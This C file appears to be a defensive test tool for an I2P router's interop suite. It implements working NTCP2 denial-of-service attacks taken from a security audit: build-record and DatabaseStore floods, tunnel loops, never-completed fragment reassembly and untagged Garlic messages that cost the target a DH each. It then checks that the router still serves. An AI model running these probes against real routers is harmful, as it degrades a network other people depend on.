/*
 * The attacks of the security audit (shared docs, AUDIT.md) that a
 * stranger can mount over NTCP2, against a live router, for
 * tests/interop/hostile.sh.  Each mode is one attack; the script checks
 * what the router counted and that it still serves.
 *
 *   hostile_probe RI_FILE FROM redial COUNT
 *	#1: COUNT times, a router whose RouterInfo names an unroutable
 *	address opens a session and leaves; another asks the target, in
 *	a DatabaseStore with a reply token, to answer to the first: the
 *	target dials an address whose connect fails at once.
 *   hostile_probe RI_FILE FROM loop
 *	#2: a two-hop inbound tunnel whose hops are both the target,
 *	the second one's next hop the target again on its own tunnel ID
 *	(a loop), then a message into its gateway.
 *   hostile_probe RI_FILE FROM junk COUNT
 *	#4: COUNT ShortTunnelBuilds of one record with the target's hash
 *	prefix and random bytes (no cryptography), many to a frame.
 *   hostile_probe RI_FILE FROM stores COUNT
 *	#6: COUNT DatabaseStores of new RouterInfos (each a signature to
 *	check and a file to write), as fast as the session takes them.
 *   hostile_probe RI_FILE FROM datetime COUNT
 *	#15: COUNT DateTime blocks an hour off in one frame, each once
 *	a log line of its own.
 *   hostile_probe RI_FILE FROM frags TUNNELS
 *	#11: TUNNELS one-hop tunnels whose outbound endpoint is the
 *	target, and into each 128 messages of 63 fragments, the last
 *	never sent: reassembly the target holds until it times out.
 *   hostile_probe RI_FILE FROM garlic COUNT
 *	#12: COUNT Garlic messages of random bytes: no tag the target
 *	knows, so each would cost it a DH with its router key.
 *   hostile_probe RI_FILE FROM dsrm COUNT
 *	#16: COUNT DatabaseSearchReplies to no lookup of the target's,
 *	each naming 16 routers it does not know.
 *   hostile_probe RI_FILE FROM build
 *	a genuine one-hop inbound build through the target, from a fresh
 *	identity; prints "build: reply code N" (0: accepted).
 *   hostile_probe RI_FILE FROM tunnelstore GATEWAY_RI_FILE TUNNEL_ID
 *	#3: a session with the target, then, through the gateway of one
 *	of the target's inbound tunnels, a DatabaseStore with a reply
 *	token whose reply goes straight to us; prints "tunnelstore:
 *	acknowledged" if the target answered (it knows its tunnel), or
 *	"tunnelstore: no answer".
 *
 * Only to addresses in the test's own network namespace.
 */
#include <arpa/inet.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "crypto.h"
#include "i2pdata.h"
#include "testpeer.h"
#include "../../routerd/build.h"
#include "../../routerd/dsm.h"
#include "../../routerd/lookup.h"
#include "../../routerd/tmsg.h"

#define REC_LEN		218	/* a short build record */
#define UNROUTABLE	"198.18.254.1"	/* on no interface of the namespace */

struct link {
	int			 fd;
	struct ntcp2_session	 s;
	struct ntcp2_remote	 rem;
};

static int
link_open(struct link *l, const char *ri_path, const char *from,
    const struct tp_me *me)
{
	struct tp_sizes	 sz;
	char		 host[64];
	unsigned	 port;

	if (tp_remote_load(ri_path, &l->rem, host, sizeof(host), &port) == -1 ||
	    (l->fd = tp_dial(from, host, port)) == -1)
		return -1;
	if (tp_alice(l->fd, me, &l->rem, &l->s, &sz) != TP_DONE) {
		close(l->fd);
		return -1;
	}
	return 0;
}

static void
link_close(struct link *l)
{
	tp_goodbye(l->fd, &l->s, 0);
	ntcp2_session_wipe(&l->s);
}

/*
 * A fresh router of ours at from:port, with a session to the target;
 * unreachable (caps U), as a probe is: it must not become a hop.
 */
static struct tp_me *
link_new(struct link *l, const char *ri_path, const char *from,
    unsigned port)
{
	struct tp_me	*me;

	if ((me = malloc(sizeof(*me))) == NULL)
		return NULL;
	if (tp_me_make_caps(me, from, port, "LU") == -1 ||
	    link_open(l, ri_path, from, me) == -1) {
		free(me);
		return NULL;
	}
	return me;
}

/* #1 */
static int
redial(const char *ri_path, const char *from, unsigned count)
{
	static uint8_t	 dsm[RI_MAXLEN + 256];
	struct tp_me	*asker, *gone;
	struct link	 a, g;
	struct wbuf	 w;
	unsigned	 i, sent = 0;

	if ((asker = malloc(sizeof(*asker))) == NULL ||
	    (gone = malloc(sizeof(*gone))) == NULL ||
	    tp_me_make_caps(asker, from, 30002, "LU") == -1 ||
	    link_open(&a, ri_path, from, asker) == -1)
		return -1;
	for (i = 0; i < count; i++) {
		/* a router that can be dialed nowhere, there and gone */
		if (tp_me_make_caps(gone, UNROUTABLE, 30003, "LU") == -1 ||
		    link_open(&g, ri_path, from, gone) == -1)
			break;
		usleep(50000);
		link_close(&g);
		usleep(50000);
		wbuf_init_fixed(&w, dsm, sizeof(dsm));
		if (dsm_build_ri(&w, asker->local.hash, asker->local.ri,
		    asker->local.rilen, 1000 + i, 0, gone->local.hash) == -1 ||
		    tp_send_i2np(a.fd, &a.s, I2NP_DATABASE_STORE, dsm,
		    wbuf_len(&w)) == -1)
			break;
		sent++;
	}
	sleep(1);
	link_close(&a);
	printf("redial: %u stores answered to an unroutable router\n", sent);
	return sent == count ? 0 : -1;
}

/* #2 */
static int
loop(const char *ri_path, const char *from, const uint8_t pub[32])
{
	static uint8_t	 bmsg[BUILD_MSG_MAX];
	struct tp_me	*me;
	struct link	 l;
	struct build	 b;
	struct wbuf	 w;
	struct i2np_hdr	 h;
	uint8_t		 ds[12], m[64], gw[128];
	int		 len;

	if ((me = link_new(&l, ri_path, from, 30004)) == NULL)
		return -1;
	memset(&b, 0, sizeof(b));
	b.inbound = 1;
	b.nhops = 2;
	memcpy(b.hops[0].hash, l.rem.hash, 32);
	memcpy(b.hops[0].pub, pub, 32);
	memcpy(b.hops[1].hash, l.rem.hash, 32);
	memcpy(b.hops[1].pub, pub, 32);
	memcpy(b.self, l.rem.hash, 32);
	b.hops[1].recv_id = build_random_id();
	b.end_id = b.hops[1].recv_id;		/* hop 2 sends to itself */
	if ((len = build_make(&b, time(NULL), bmsg)) == -1 ||
	    tp_send_i2np(l.fd, &l.s, I2NP_SHORT_TUNNEL_BUILD, bmsg, len) == -1)
		return -1;
	sleep(2);
	/* a DeliveryStatus into the gateway: round and round, if taken */
	memset(ds, 0, sizeof(ds));
	memset(&h, 0, sizeof(h));
	h.type = I2NP_DELIVERY_STATUS;
	h.msg_id = build_random_id();
	h.expiration = ((uint64_t)time(NULL) + 60) * 1000;
	wbuf_init_fixed(&w, m, sizeof(m));
	if (i2np_msg_write_long(&h, ds, sizeof(ds), &w) == -1)
		return -1;
	len = wbuf_len(&w);
	wbuf_init_fixed(&w, gw, sizeof(gw));
	wbuf_put_u32(&w, b.hops[0].recv_id);
	wbuf_put_u16(&w, len);
	wbuf_put_bytes(&w, m, len);
	if (wbuf_error(&w) || tp_send_i2np(l.fd, &l.s, I2NP_TUNNEL_GATEWAY,
	    gw, wbuf_len(&w)) == -1)
		return -1;
	sleep(2);
	link_close(&l);
	build_wipe(&b);
	printf("loop: built and fed\n");
	return 0;
}

/* #4: many junk records to a frame */
static int
junk(const char *ri_path, const char *from, unsigned count)
{
	static uint8_t	 plain[NTCP2_FRAME_MAX], frame[NTCP2_FRAME_MAX + 2];
	uint8_t		 msg[9 + 1 + REC_LEN];
	struct tp_me	*me;
	struct link	 l;
	struct wbuf	 p, f;
	uint32_t	 id;
	unsigned	 sent = 0;

	if ((me = link_new(&l, ri_path, from, 30005)) == NULL)
		return -1;
	while (sent < count) {
		wbuf_init_fixed(&p, plain, sizeof(plain));
		while (sent < count && sizeof(plain) - wbuf_len(&p) >= 3 + sizeof(msg)) {
			crypto_random(msg, sizeof(msg));
			msg[0] = I2NP_SHORT_TUNNEL_BUILD;
			id = htonl(time(NULL) + 60);
			memcpy(msg + 5, &id, 4);
			msg[9] = 1;			/* one record */
			memcpy(msg + 10, l.rem.hash, 16);	/* "ours" */
			if (ntcp2_put_i2np(&p, msg, sizeof(msg)) == -1)
				break;
			sent++;
		}
		wbuf_init_fixed(&f, frame, sizeof(frame));
		if (ntcp2_frame_seal(&l.s.send, plain, wbuf_len(&p), &f) !=
		    NTCP2_OK || tp_write_full(l.fd, frame, wbuf_len(&f)) == -1)
			break;
	}
	sleep(2);
	link_close(&l);
	printf("junk: %u build records sent\n", sent);
	return sent == count ? 0 : -1;
}

/* one TunnelData of fragment d into hop 0 of b, as its gateway sends it */
static int
send_fragment(struct link *l, struct build *b, struct tmsg_layer *layer,
    const struct tdi *d)
{
	uint8_t		td[4 + TMSG_LEN], iv[16];
	uint32_t	id = htonl(b->hops[0].recv_id);

	crypto_random(iv, sizeof(iv));
	memcpy(td, &id, 4);
	if (tmsg_build(td + 4, iv, d, 1) == -1 ||
	    tmsg_decrypt(layer, td + 4) == -1)
		return -1;
	return tp_send_i2np(l->fd, &l->s, I2NP_TUNNEL_DATA, td, sizeof(td));
}

/* #11: messages begun in n tunnels and never ended */
static int
frags(const char *ri_path, const char *from, const uint8_t pub[32],
    unsigned n)
{
	static uint8_t		 bmsg[BUILD_MSG_MAX], body[960];
	struct tmsg_layer	 layer;
	struct build		 b;
	struct tdi		 d;
	struct link		 l;
	struct tp_me		*me;
	unsigned		 t, m, f, sent = 0;
	int			 len;

	if ((me = link_new(&l, ri_path, from, 30013)) == NULL)
		return -1;
	crypto_random(body, sizeof(body));
	for (t = 0; t < n; t++) {
		memset(&b, 0, sizeof(b));
		b.nhops = 1;
		memcpy(b.hops[0].hash, l.rem.hash, 32);
		memcpy(b.hops[0].pub, pub, 32);
		memcpy(b.reply_gw, me->local.hash, 32);
		b.reply_tunnel = build_random_id();
		if ((len = build_make(&b, time(NULL), bmsg)) == -1 ||
		    tp_send_i2np(l.fd, &l.s, I2NP_SHORT_TUNNEL_BUILD, bmsg,
		    len) == -1)
			return -1;
		sleep(1);		/* the target takes the tunnel */
		if (tmsg_layer_init(&layer, b.hops[0].keys.layer_key,
		    b.hops[0].keys.iv_key) == -1)
			return -1;
		for (m = 0; m < 128; m++) {
			memset(&d, 0, sizeof(d));
			d.type = TDI_ROUTER;
			memcpy(d.hash, me->local.hash, 32);
			d.fragmented = 1;
			d.msg_id = build_random_id();
			d.frag = body;
			d.size = sizeof(body);
			for (f = 0; f < 63; f++) {
				d.follow_on = f > 0;
				d.frag_num = f;
				if (send_fragment(&l, &b, &layer, &d) == -1)
					goto out;
				sent++;
			}
		}
		tmsg_layer_free(&layer);
		build_wipe(&b);
	}
 out:
	sleep(1);
	link_close(&l);
	printf("frags: %u fragments of messages never ended, %u tunnels\n",
	    sent, n);
	return sent == n * 128 * 63 ? 0 : -1;
}

/* #6: stores of fresh RouterInfos, all from one sender */
static int
stores(const char *ri_path, const char *from, unsigned count)
{
	static uint8_t	 dsm[RI_MAXLEN + 256];
	struct tp_me	*me, *other;
	struct link	 l;
	struct wbuf	 w;
	unsigned	 i, sent = 0;

	if ((me = link_new(&l, ri_path, from, 30010)) == NULL ||
	    (other = malloc(sizeof(*other))) == NULL)
		return -1;
	for (i = 0; i < count; i++) {
		if (tp_me_make_caps(other, from, 30011, "LU") == -1)
			break;
		wbuf_init_fixed(&w, dsm, sizeof(dsm));
		if (dsm_build_ri(&w, other->local.hash, other->local.ri,
		    other->local.rilen, 0, 0, NULL) == -1 ||
		    tp_send_i2np(l.fd, &l.s, I2NP_DATABASE_STORE, dsm,
		    wbuf_len(&w)) == -1)
			break;
		sent++;
	}
	sleep(1);
	link_close(&l);
	printf("stores: %u new RouterInfos stored from one router\n", sent);
	return sent == count ? 0 : -1;
}

/* #15: one frame of DateTime blocks, an hour off each */
static int
datetime(const char *ri_path, const char *from, unsigned count)
{
	static uint8_t	 plain[NTCP2_FRAME_MAX], frame[NTCP2_FRAME_MAX + 2];
	struct link	 l;
	struct wbuf	 p, f;
	unsigned	 i;

	if (link_new(&l, ri_path, from, 30012) == NULL)
		return -1;
	wbuf_init_fixed(&p, plain, sizeof(plain));
	for (i = 0; i < count; i++) {
		wbuf_put_u8(&p, NTCP2_B_DATETIME);
		wbuf_put_u16(&p, 4);
		wbuf_put_u32(&p, time(NULL) + 3600 + i);
	}
	wbuf_init_fixed(&f, frame, sizeof(frame));
	if (wbuf_error(&p) || ntcp2_frame_seal(&l.s.send, plain,
	    wbuf_len(&p), &f) != NTCP2_OK ||
	    tp_write_full(l.fd, frame, wbuf_len(&f)) == -1)
		return -1;
	sleep(1);
	link_close(&l);
	printf("datetime: %u DateTime blocks an hour off in one frame\n",
	    count);
	return 0;
}

/* #12: garlic under no tag, each a DH for the target */
static int
garlic(const char *ri_path, const char *from, unsigned count)
{
	uint8_t		 m[4 + 32 + 128];
	struct tp_me	*me;
	struct link	 l;
	unsigned	 i, sent = 0;

	if ((me = link_new(&l, ri_path, from, 30009)) == NULL)
		return -1;
	for (i = 0; i < count; i++) {
		crypto_random(m, sizeof(m));
		m[0] = m[1] = 0;		/* the length of what follows */
		m[2] = (sizeof(m) - 4) >> 8;
		m[3] = (sizeof(m) - 4) & 0xff;
		if (tp_send_i2np(l.fd, &l.s, I2NP_GARLIC, m, sizeof(m)) == -1)
			break;
		sent++;
	}
	sleep(1);
	link_close(&l);
	printf("garlic: %u messages under no tag sent\n", sent);
	return sent == count ? 0 : -1;
}

/* #16: search replies nobody asked for */
static int
dsrm(const char *ri_path, const char *from, unsigned count)
{
	uint8_t		 key[32], peers[16 * 32], m[1024];
	struct tp_me	*me;
	struct link	 l;
	struct wbuf	 w;
	unsigned	 i, sent = 0;

	if ((me = link_new(&l, ri_path, from, 30008)) == NULL)
		return -1;
	for (i = 0; i < count; i++) {
		crypto_random(key, sizeof(key));
		crypto_random(peers, sizeof(peers));
		wbuf_init_fixed(&w, m, sizeof(m));
		if (dsrm_build(&w, key, peers, 16, me->local.hash) == -1 ||
		    tp_send_i2np(l.fd, &l.s, I2NP_DATABASE_SEARCH_REPLY, m,
		    wbuf_len(&w)) == -1)
			break;
		sent++;
	}
	sleep(1);
	link_close(&l);
	printf("dsrm: %u unsolicited search replies sent\n", sent);
	return sent == count ? 0 : -1;
}

/* a genuine build: the target the gateway, we the next hop */
static int
genuine(const char *ri_path, const char *from, const uint8_t pub[32])
{
	static uint8_t	 bmsg[BUILD_MSG_MAX], reply[BUILD_MSG_MAX];
	uint8_t		 codes[BUILD_HOPS_MAX];
	struct tp_me	*me;
	struct link	 l;
	struct build	 b;
	size_t		 rlen;
	int		 len, rv;

	if ((me = link_new(&l, ri_path, from, 30006)) == NULL)
		return -1;
	memset(&b, 0, sizeof(b));
	b.inbound = 1;
	b.nhops = 1;
	memcpy(b.hops[0].hash, l.rem.hash, 32);
	memcpy(b.hops[0].pub, pub, 32);
	memcpy(b.self, me->local.hash, 32);
	if ((len = build_make(&b, time(NULL), bmsg)) == -1 ||
	    tp_send_i2np(l.fd, &l.s, I2NP_SHORT_TUNNEL_BUILD, bmsg, len) == -1)
		return -1;
	rv = -1;
	if (tp_wait_i2np(l.fd, &l.s, I2NP_SHORT_TUNNEL_BUILD, 0, 10000, reply,
	    sizeof(reply), &rlen, NULL) == 0 &&
	    build_reply(&b, reply, rlen, codes) != -1) {
		printf("build: reply code %u\n", codes[0]);
		rv = 0;
	} else
		printf("build: no reply\n");
	link_close(&l);
	build_wipe(&b);
	return rv;
}

/* #3 */
static int
tunnelstore(const char *ri_path, const char *from, const char *gw_path,
    uint32_t tunnel)
{
	static uint8_t	 dsm[RI_MAXLEN + 256], m[RI_MAXLEN + 512];
	static uint8_t	 gwmsg[RI_MAXLEN + 512];
	uint8_t		 ack[64];
	struct tp_me	*me;
	struct link	 l, g;
	struct wbuf	 w;
	struct i2np_hdr	 h;
	uint32_t	 token;
	size_t		 alen, mlen;

	if ((me = link_new(&l, ri_path, from, 30007)) == NULL ||
	    link_open(&g, gw_path, from, me) == -1)
		return -1;
	token = build_random_id();
	wbuf_init_fixed(&w, dsm, sizeof(dsm));
	if (dsm_build_ri(&w, me->local.hash, me->local.ri, me->local.rilen,
	    token, 0, me->local.hash) == -1)
		return -1;
	memset(&h, 0, sizeof(h));
	h.type = I2NP_DATABASE_STORE;
	h.msg_id = build_random_id();
	h.expiration = ((uint64_t)time(NULL) + 60) * 1000;
	mlen = wbuf_len(&w);
	wbuf_init_fixed(&w, m, sizeof(m));
	if (i2np_msg_write_long(&h, dsm, mlen, &w) == -1)
		return -1;
	mlen = wbuf_len(&w);
	wbuf_init_fixed(&w, gwmsg, sizeof(gwmsg));
	wbuf_put_u32(&w, tunnel);
	wbuf_put_u16(&w, mlen);
	wbuf_put_bytes(&w, m, mlen);
	if (wbuf_error(&w) || tp_send_i2np(g.fd, &g.s, I2NP_TUNNEL_GATEWAY,
	    gwmsg, wbuf_len(&w)) == -1)
		return -1;
	if (tp_wait_i2np(l.fd, &l.s, I2NP_DELIVERY_STATUS, token, 8000, ack,
	    sizeof(ack), &alen, NULL) == 0)
		printf("tunnelstore: acknowledged\n");
	else
		printf("tunnelstore: no answer\n");
	link_close(&g);
	link_close(&l);
	return 0;
}

static void
usage(void)
{
	fprintf(stderr, "usage: hostile_probe RI_FILE FROM_ADDR "
	    "redial COUNT | loop | junk COUNT | stores COUNT |\n"
	    "    datetime COUNT | frags TUNNELS | garlic COUNT | dsrm COUNT |\n"
	    "    build |\n"
	    "    tunnelstore GATEWAY_RI_FILE TUNNEL_ID\n");
	exit(2);
}

int
main(int argc, char *argv[])
{
	uint8_t		 pub[32];
	const char	*mode;
	int		 rv;

	if (argc < 4)
		usage();
	mode = argv[3];
	if (crypto_init() == -1 || tp_remote_crypto(argv[1], pub) == -1) {
		fprintf(stderr, "hostile_probe: %s unreadable\n", argv[1]);
		return 1;
	}
	if (strcmp(mode, "redial") == 0 && argc == 5)
		rv = redial(argv[1], argv[2], strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "loop") == 0 && argc == 4)
		rv = loop(argv[1], argv[2], pub);
	else if (strcmp(mode, "junk") == 0 && argc == 5)
		rv = junk(argv[1], argv[2], strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "stores") == 0 && argc == 5)
		rv = stores(argv[1], argv[2], strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "datetime") == 0 && argc == 5)
		rv = datetime(argv[1], argv[2], strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "frags") == 0 && argc == 5)
		rv = frags(argv[1], argv[2], pub, strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "garlic") == 0 && argc == 5)
		rv = garlic(argv[1], argv[2], strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "dsrm") == 0 && argc == 5)
		rv = dsrm(argv[1], argv[2], strtoul(argv[4], NULL, 10));
	else if (strcmp(mode, "build") == 0 && argc == 4)
		rv = genuine(argv[1], argv[2], pub);
	else if (strcmp(mode, "tunnelstore") == 0 && argc == 6)
		rv = tunnelstore(argv[1], argv[2], argv[4],
		    strtoul(argv[5], NULL, 10));
	else
		usage();
	if (rv == -1)
		fprintf(stderr, "hostile_probe: %s: session lost or refused\n",
		    mode);
	return rv == 0 ? 0 : 1;
}
